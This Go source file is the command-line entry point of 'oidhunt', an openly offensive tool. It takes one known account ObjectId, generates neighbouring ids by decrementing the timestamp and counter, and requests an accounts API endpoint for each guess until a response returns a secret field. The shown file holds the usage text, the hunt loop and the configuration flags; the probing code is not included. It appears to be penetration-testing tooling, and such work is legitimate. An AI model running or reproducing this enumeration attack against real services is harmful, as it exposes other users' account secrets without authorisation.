package cmd

// oidhunt root command
//
// Runs the identifier hunt: decompose a known account id, walk the
// timestamp/counter decrements behind it, and GET each guess until an
// account response carries the secret field.
//
// Configuration comes from flags and OIDHUNT_* environment variables only.

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"

	"github.com/CodeMonkeyCybersecurity/oidhunt/internal/config"
	"github.com/CodeMonkeyCybersecurity/oidhunt/internal/logger"
	"github.com/CodeMonkeyCybersecurity/oidhunt/internal/probe"
	"github.com/CodeMonkeyCybersecurity/oidhunt/internal/report"
	"github.com/CodeMonkeyCybersecurity/oidhunt/internal/telemetry"
	"github.com/CodeMonkeyCybersecurity/oidhunt/pkg/objectid"
	"github.com/spf13/cobra"
	"github.com/spf13/viper"
)

var (
	cfg *config.Config
	log *logger.Logger
)

var rootCmd = &cobra.Command{
	Use:   "oidhunt [base-id]",
	Short: "Guess neighbouring ObjectId account identifiers",
	Long: `oidhunt - ObjectId IDOR hunter

Takes one known account identifier (24 hex chars: timestamp, random segment,
counter), steps the timestamp and counter backwards and requests

  {scheme}://{host}/api/v1/accounts/{guess}

until a 200 JSON response carries a non-null secret field.

USAGE:
  oidhunt                                # hunt with the configured base id
  oidhunt 6865f8370954c90009033a70       # hunt around this id
  oidhunt decode <id>                    # show an id's parts
  oidhunt candidates [base-id]           # list guesses without sending them

ENVIRONMENT:
  Every flag can also be set as OIDHUNT_<KEY>, e.g. OIDHUNT_HOST,
  OIDHUNT_TS_MAX, OIDHUNT_LOG_LEVEL.`,
	Args:         cobra.MaximumNArgs(1),
	SilenceUsage: true,
	RunE: func(cmd *cobra.Command, args []string) error {
		if len(args) == 1 {
			cfg.Search.BaseID = args[0]
		}
		if err := cfg.Validate(); err != nil {
			return fmt.Errorf("invalid configuration: %w", err)
		}

		base, err := objectid.Parse(cfg.Search.BaseID)
		if err != nil {
			return fmt.Errorf("invalid base identifier %q: %w", cfg.Search.BaseID, err)
		}

		ctx, stop := signal.NotifyContext(cmd.Context(), os.Interrupt, syscall.SIGTERM)
		defer stop()
		ctx = logger.WithLogger(ctx, log)

		tel, err := telemetry.New(ctx, cfg.Telemetry)
		if err != nil {
			log.Warnw("Telemetry disabled", "error", err)
			tel = telemetry.NewNoop()
		}
		defer func() {
			if err := tel.Close(); err != nil {
				log.Warnw("Failed to flush telemetry", "error", err)
			}
		}()

		return runHunt(ctx, cmd, base, tel)
	},
	PersistentPreRunE: func(cmd *cobra.Command, args []string) error {
		if err := initConfig(); err != nil {
			return fmt.Errorf("failed to initialize config: %w", err)
		}

		var err error
		log, err = logger.New(cfg.Logger)
		if err != nil {
			return fmt.Errorf("failed to initialize logger: %w", err)
		}
		return nil
	},
	PersistentPostRun: func(cmd *cobra.Command, args []string) {
		if log != nil {
			// Sync on a terminal's stdout/stderr returns EINVAL on Linux
			if err := log.Sync(); err != nil {
				if err.Error() != "sync /dev/stdout: invalid argument" && err.Error() != "sync /dev/stderr: invalid argument" {
					fmt.Fprintf(os.Stderr, "Warning: failed to sync logger: %v\n", err)
				}
			}
		}
	},
}

func runHunt(ctx context.Context, cmd *cobra.Command, base objectid.ID, tel telemetry.Telemetry) error {
	out := cmd.OutOrStdout()
	ranges := objectid.Ranges{
		TimestampMax: cfg.Search.TimestampMax,
		CounterMax:   cfg.Search.CounterMax,
	}

	console := newConsole(out)
	runner := probe.NewRunner(cfg.Target, log.WithTarget(cfg.Target.Host),
		probe.WithObserver(console),
		probe.WithTelemetry(tel),
	)

	console.Banner(runner.URL(""), base, objectid.Count(base, ranges))

	result, err := runner.Run(ctx, base, ranges)
	if err != nil {
		if errors.Is(err, context.Canceled) {
			console.Interrupted(result)
		}
		return err
	}

	console.Result(result, cfg.Target)

	if cfg.Search.ReportPath != "" {
		if err := report.Write(ctx, cfg.Search.ReportPath, result, cfg.Target.SecretField); err != nil {
			return err
		}
		console.ReportWritten(cfg.Search.ReportPath)
	}
	return nil
}

func Execute() error {
	return rootCmd.Execute()
}

func init() {
	defaults := config.DefaultConfig()
	flags := rootCmd.PersistentFlags()

	// Logging configuration
	flags.String("log-level", defaults.Logger.Level, "log level (debug, info, warn, error)")
	flags.String("log-format", defaults.Logger.Format, "log format (json, console)")
	viper.BindPFlag("logger.level", flags.Lookup("log-level"))
	viper.BindPFlag("logger.format", flags.Lookup("log-format"))
	viper.BindEnv("logger.level", "OIDHUNT_LOG_LEVEL")
	viper.BindEnv("logger.format", "OIDHUNT_LOG_FORMAT")

	// Target
	flags.String("host", defaults.Target.Host, "API host serving the accounts endpoint")
	flags.String("scheme", defaults.Target.Scheme, "URL scheme (http, https)")
	flags.String("secret-field", defaults.Target.SecretField, "top-level JSON field that marks a hit")
	flags.Duration("timeout", defaults.Target.Timeout, "per-request timeout")
	flags.Bool("block-private", defaults.Target.BlockPrivate, "refuse to connect to private or loopback addresses")
	viper.BindPFlag("target.host", flags.Lookup("host"))
	viper.BindPFlag("target.scheme", flags.Lookup("scheme"))
	viper.BindPFlag("target.secret_field", flags.Lookup("secret-field"))
	viper.BindPFlag("target.timeout", flags.Lookup("timeout"))
	viper.BindPFlag("target.block_private", flags.Lookup("block-private"))
	viper.BindEnv("target.host", "OIDHUNT_HOST")
	viper.BindEnv("target.scheme", "OIDHUNT_SCHEME")
	viper.BindEnv("target.secret_field", "OIDHUNT_SECRET_FIELD")
	viper.BindEnv("target.timeout", "OIDHUNT_TIMEOUT")

	// Search window
	flags.String("base-id", defaults.Search.BaseID, "known identifier to search backwards from")
	flags.Int("ts-max", defaults.Search.TimestampMax, "exclusive bound on the timestamp decrement (seconds)")
	flags.Int("counter-max", defaults.Search.CounterMax, "exclusive bound on the counter decrement")
	flags.String("report", "", "write the run report to this file (.json, .yaml, .yml)")
	viper.BindPFlag("search.base_id", flags.Lookup("base-id"))
	viper.BindPFlag("search.timestamp_max", flags.Lookup("ts-max"))
	viper.BindPFlag("search.counter_max", flags.Lookup("counter-max"))
	viper.BindPFlag("search.report_path", flags.Lookup("report"))
	viper.BindEnv("search.base_id", "OIDHUNT_BASE_ID")
	viper.BindEnv("search.timestamp_max", "OIDHUNT_TS_MAX")
	viper.BindEnv("search.counter_max", "OIDHUNT_COUNTER_MAX")

	// Telemetry
	flags.Bool("telemetry", defaults.Telemetry.Enabled, "export traces over OTLP/HTTP")
	flags.String("telemetry-endpoint", defaults.Telemetry.Endpoint, "OTLP/HTTP collector endpoint")
	viper.BindPFlag("telemetry.enabled", flags.Lookup("telemetry"))
	viper.BindPFlag("telemetry.endpoint", flags.Lookup("telemetry-endpoint"))
	viper.BindEnv("telemetry.enabled", "OIDHUNT_TELEMETRY")
	viper.BindEnv("telemetry.endpoint", "OIDHUNT_TELEMETRY_ENDPOINT")

	viper.SetDefault("target.account_path", defaults.Target.AccountPath)
	viper.SetDefault("target.user_agent", defaults.Target.UserAgent)
	viper.SetDefault("telemetry.service_name", defaults.Telemetry.ServiceName)
	viper.SetDefault("telemetry.exporter_type", defaults.Telemetry.ExporterType)
	viper.SetDefault("telemetry.sample_rate", defaults.Telemetry.SampleRate)
	viper.SetDefault("logger.output_paths", defaults.Logger.OutputPaths)
}

func initConfig() error {
	// No config files - flags + env vars only
	viper.SetEnvPrefix("OIDHUNT")
	viper.SetEnvKeyReplacer(strings.NewReplacer(".", "_"))
	viper.AutomaticEnv()

	cfg = config.DefaultConfig()
	if err := viper.Unmarshal(cfg); err != nil {
		return fmt.Errorf("failed to unmarshal config: %w", err)
	}

	cfg.Search.BaseID = strings.TrimSpace(cfg.Search.BaseID)
	return nil
}
